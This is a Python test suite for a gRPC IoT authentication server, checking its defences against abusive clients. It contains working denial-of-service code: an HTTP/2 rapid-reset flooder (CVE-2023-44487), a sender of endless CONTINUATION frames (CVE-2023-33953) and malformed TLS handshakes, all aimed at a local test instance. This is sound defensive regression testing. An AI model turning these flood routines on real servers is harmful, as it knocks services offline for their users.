"""The port under abuse: what anyone who reaches it, or a caller with a credential,
can send that a well-behaved client never does. Failed TLS handshakes, HTTP/2
streams reset as soon as they are opened (CVE-2023-44487), header blocks that never
end (CVE-2023-33953). Each is sent with a client the project did not write
(python3-ssl, python3-h2, python3-hpack) against the real iotauthd."""

import json
import multiprocessing
import os
import socket
import ssl
import struct
import tempfile
import threading
import time
import unittest

import grpc

import foundation_test as ft
import iotauth_harness as h


class HandshakeFailureTest(unittest.TestCase):
    """Failed TLS handshakes are counted by cause, and their log lines are capped, so
    that a port scanner cannot flood the log; each is a warning (the peer's doing)."""

    def test_failed_handshakes_are_counted_by_cause_and_their_lines_capped(self):
        d = tempfile.mkdtemp(prefix="iotauth-hs-")
        other_ca, other_cert, other_key, _ = ft.make_pki(d, "other")
        server = h.Server().start()
        try:
            server_ca = os.path.join(server.data_dir, "pki", "ca.pem")

            def handshake(ctx):
                with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=10) as raw:
                    try:
                        with ctx.wrap_socket(raw, server_hostname="localhost") as tls:
                            tls.recv(1)  # TLS 1.3: the server judges the client after our Finished
                    except (ssl.SSLError, OSError):
                        pass

            # 1. Plaintext HTTP/2 to the TLS port, as a misconfigured client sends it.
            for _ in range(30):
                with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=10) as raw:
                    raw.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
                    try:
                        raw.recv(1)
                    except OSError:
                        pass
            # 2. A client certificate from a CA the server does not know.
            foreign = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            foreign.load_verify_locations(server_ca)
            foreign.load_cert_chain(other_cert, other_key)
            foreign.set_alpn_protocols(["h2"])
            for _ in range(3):
                handshake(foreign)
            # 3. A client that does not trust the server's certificate.
            distrustful = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            distrustful.load_verify_locations(other_ca)
            distrustful.set_alpn_protocols(["h2"])
            for _ in range(2):
                handshake(distrustful)

            want = {"protocol": 30, "refused_peer_certificate": 3, "peer_refused_certificate": 2}
            deadline = time.time() + 15
            while time.time() < deadline:
                text = server.metrics()
                got = {c: h.metric_value(text, "iotauth_tls_handshake_failures_total", cause=c)
                       for c in want}
                if got == want:
                    break
                time.sleep(0.2)
            self.assertEqual(got, want, server.log())
            self.assertEqual(h.promtool_check(text).returncode, 0, h.promtool_check(text).stdout)
            # The server still serves a client that does it right.
            self.assertTrue(ft.healthy(server.address, server_ca))
            lines = [json.loads(l) for l in server.log().splitlines()
                     if l.startswith("{") and "Handshake failed" in l]
            self.assertEqual(len(lines), 10, lines)
            self.assertEqual({l["level"] for l in lines}, {"warn"})
            self.assertTrue({l["cause"] for l in lines} <= set(want), lines)
        finally:
            self.assertEqual(server.stop(), 0, server.log())


def rapid_reset(port, ca, n, path, cert=None, key=None):
    """Opens `n` streams to `path` on one TLS connection, each reset (RST_STREAM
    CANCEL) right after its request, without waiting for anything: the HTTP/2
    "rapid reset" flood (CVE-2023-44487), sent with python3-h2. Returns how many it
    sent before the server closed the connection (n if it never did)."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions
    ctx = ssl.create_default_context(cafile=ca)
    if cert:
        ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    headers = [(":method", "POST"), (":scheme", "https"), (":path", path),
               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    body = b"\x00\x00\x00\x00\x00"  # an empty message
    sent = 0
    with ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=30),
                         server_hostname="localhost") as tls:
        conn.initiate_connection()
        tls.sendall(conn.data_to_send())

        def receive():
            # One read of what the server sent (its SETTINGS, WINDOW_UPDATEs,
            # answers) into `conn`; False once it has closed the connection.
            data = tls.recv(1 << 20)
            return bool(data) and not any(isinstance(ev, h2.events.ConnectionTerminated)
                                          for ev in conn.receive_data(data))

        def wait_for_window(sid):
            # Each request's 5 bytes count against the connection's flow-control
            # window (64 KiB: about 13,000 requests) until the server's
            # WINDOW_UPDATE arrives; a slow server (ASan) may not have sent it yet.
            while conn.local_flow_control_window(sid) < len(body):
                tls.sendall(conn.data_to_send())
                tls.settimeout(30)
                if not receive():
                    return False
            return True

        while sent < n:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                if not wait_for_window(sid):
                    return sent
                try:
                    conn.send_data(sid, body, end_stream=True)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                except h2.exceptions.StreamClosedError:
                    # While we waited for window the server already answered this
                    # stream (refused it: the thread cap, the backlog): it counts.
                    pass
                sent += 1
            try:
                tls.sendall(conn.data_to_send())
            except OSError:
                return sent
            tls.setblocking(False)
            try:
                while True:  # what the server sent so far
                    if not receive():
                        return sent
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            finally:
                tls.setblocking(True)
    return sent


def serve_again(test, check, within=120, only=None):
    """Runs `check` until it passes without a gRPC error, for up to `within` s.
    With `only` (a status code), any other error fails at once."""
    deadline = time.time() + within
    while True:
        try:
            return check()
        except grpc.RpcError as e:
            if only is not None:
                test.assertEqual(e.code(), only, e.details())
            test.assertLess(time.time(), deadline, "still failing: %s" % e)
            time.sleep(0.5)


def _rapid_reset_job(args):
    return rapid_reset(*args)


class RapidResetTest(unittest.TestCase):
    """HTTP/2 rapid reset (CVE-2023-44487): streams opened and reset at once get
    around the concurrent-stream cap, and Debian's gRPC 1.51 queues every call that
    passes the gate until a handler takes it, more slowly than such a client sends
    them. What bounds it here: the gate refuses calls without a credential before
    they queue (health and reflection past a shared budget), and the synchronous
    services' threads are capped."""

    def setUp(self):
        # A small public budget: shed calls are certain however few of a flood's
        # streams reach the gate before their reset (under ASan on a slow VM, fewer
        # than the default budget of 1,000 a second admits: CI saw none shed).
        self.server = h.Server(args=["--set=auth.public_calls_per_second=20",
                                     "--set=auth.public_calls_burst=40"]).start()
        self.pid = self.server.proc.pid
        with open("/proc/%d/maps" % self.pid) as f:
            self.sanitized = "libasan" in f.read()  # ASan's quarantine keeps freed memory

    def tearDown(self):
        self.assertEqual(self.server.stop(), 0, self.server.log())

    def rss_mib(self):
        with open("/proc/%d/status" % self.pid) as f:
            return int([l for l in f if l.startswith("VmRSS")][0].split()[1]) // 1024

    def flood(self, path, n, connections=2, role=None):
        """`connections` processes flooding at once (one Python process cannot
        outpace the server); returns the server's peak thread count meanwhile."""
        cert = key = None
        if role:
            cert, key = self.server.pki(role + ".pem"), self.server.pki(role + ".key")
        job = (self.server.grpc_port, self.server.pki("ca.pem"), n, path, cert, key)
        peak = [0]
        done = threading.Event()

        def sample():
            while not done.is_set():
                try:
                    peak[0] = max(peak[0], len(os.listdir("/proc/%d/task" % self.pid)))
                except OSError:
                    pass
                time.sleep(0.02)
        sampler = threading.Thread(target=sample)
        sampler.start()
        try:
            with multiprocessing.get_context("fork").Pool(connections) as pool:
                self.assertEqual(pool.map(_rapid_reset_job, [job] * connections), [n] * connections)
        finally:
            done.set()
            sampler.join()
        return peak[0]

    def test_floods_without_a_credential_are_refused_before_they_queue(self):
        self.flood("/grpc.health.v1.Health/Check", 1000, connections=1)  # warm-up
        start = self.rss_mib()
        self.flood("/iotauth.identity.v1.IdentityService/Authenticate", 20000)
        self.flood("/grpc.health.v1.Health/Check", 20000)
        grown = self.rss_mib() - start
        if not self.sanitized:
            # Before the health budget: 500-800 MiB from the Health/Check flood alone.
            self.assertLess(grown, 60, "RSS grew by %d MiB over 80,000 reset streams" % grown)
        text = self.server.metrics()
        self.assertGreater(h.metric_value(text, "iotauth_grpc_public_calls_shed_total"), 0)
        # Not all 40,000: a stream whose reset is read before gRPC runs the gate for it
        # is dropped without reaching the gate (under ASan, 14,100 did here).
        self.assertGreater(h.metric_value(text, "iotauth_grpc_unauthenticated_refused_total"), 0)
        # A caller with a credential is not on the budget.
        # (Under ASan the server may still be working through the flood: retried.)
        serve_again(self, lambda: self.assertEqual(
            ft.health_status(self.server.channel(role="reader")), 1))
        serve_again(self, lambda: h.call(self.server.channel(role="reader"),
                                         "iotauth.registry.v1.DeviceRegistry/ListTenants", {}))

    def test_a_credentialed_flood_is_held_to_2048_unsettled_calls(self):
        # A gateway's reset Authenticate streams never reach the handler: before the
        # per-caller backlog, two such clients took the server to 1.5 GiB.
        self.flood("/iotauth.identity.v1.IdentityService/Authenticate", 1000, connections=1,
                   role="gateway")  # warm-up
        start = self.rss_mib()
        self.flood("/iotauth.identity.v1.IdentityService/Authenticate", 30000, role="gateway")
        grown = self.rss_mib() - start
        if not self.sanitized:
            self.assertLess(grown, 100, "RSS grew by %d MiB over 60,000 reset streams" % grown)
        text = self.server.metrics()
        self.assertGreater(h.metric_value(text, "iotauth_grpc_backlog_refused_total"), 0)
        # Another caller is not held up, and the gateway's next real call goes through.
        h.call(self.server.channel(role="reader"), "iotauth.registry.v1.DeviceRegistry/ListTenants", {})
        serve_again(self, lambda: h.call(self.server.channel(role="gateway"),
                                         "iotauth.identity.v1.IdentityService/Authenticate", {}),
                    only=grpc.StatusCode.RESOURCE_EXHAUSTED)

    def test_synchronous_services_start_at_most_1024_threads(self):
        # A credentialed caller passes the gate. ListTenants is served by the
        # synchronous server; gRPC started 7,000 threads for this flood before the cap.
        peak = self.flood("/iotauth.registry.v1.DeviceRegistry/ListTenants", 20000, role="gateway")
        self.assertLessEqual(peak, 1024 + 64, "peak threads %d" % peak)
        # While the flood's backlog drains, synchronous calls past the cap are refused
        # RESOURCE_EXHAUSTED ("Server Threadpool Exhausted"); then they are served.
        # (Under ASan the server may still be working through the flood: retried.)
        serve_again(self, lambda: self.assertEqual(
            ft.health_status(self.server.channel(role=None)), 1))
        serve_again(self, lambda: h.call(self.server.channel(role="reader"),
                                         "iotauth.registry.v1.DeviceRegistry/ListTenants", {}),
                    only=grpc.StatusCode.RESOURCE_EXHAUSTED)


class EndlessHeaderBlockTest(unittest.TestCase):
    """HEADERS then CONTINUATION frames that never end the block: Debian's gRPC 1.51
    buffers them whole before any size limit or the gate sees them (CVE-2023-33953).
    The transports' memory quota makes gRPC close such a connection."""

    def test_the_memory_quota_closes_the_connection(self):
        import hpack
        server = h.Server(args=["--grpc_memory_mb=16"]).start()
        try:
            self.assertIn('"msg":"grpc: transport memory quota","mib":"16"', server.log())
            with open("/proc/%d/maps" % server.proc.pid) as f:
                sanitized = "libasan" in f.read()

            def frame(kind, flags, stream, payload):
                return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
                        struct.pack(">I", stream) + payload)
            ctx = ssl.create_default_context(cafile=server.pki("ca.pem"))
            ctx.set_alpn_protocols(["h2"])
            sent = 0
            with ctx.wrap_socket(socket.create_connection(("127.0.0.1", server.grpc_port), timeout=30),
                                 server_hostname="localhost") as tls:
                block = hpack.Encoder().encode([
                    (":method", "POST"), (":scheme", "https"), (":path", "/grpc.health.v1.Health/Check"),
                    (":authority", "localhost"), ("content-type", "application/grpc")])
                tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") +
                            frame(1, 0, 1, block))  # HEADERS without END_HEADERS
                try:
                    while sent < 200 << 20:
                        tls.sendall(frame(9, 0, 1, b"a" * 16000))  # CONTINUATION, no END_HEADERS
                        sent += 16000
                except OSError:
                    pass
            # Without the quota all 200 MiB went in, and the server held them.
            self.assertLess(sent, 100 << 20, "the server took %d MiB of one header block" % (sent >> 20))
            with open("/proc/%d/status" % server.proc.pid) as f:
                peak = int([l for l in f if l.startswith("VmHWM")][0].split()[1]) // 1024
            if not sanitized:
                self.assertLess(peak, 200, "peak RSS %d MiB" % peak)
            self.assertEqual(ft.health_status(server.channel(role=None)), 1)
        finally:
            self.assertEqual(server.stop(), 0, server.log())


if __name__ == "__main__":
    unittest.main(verbosity=2)
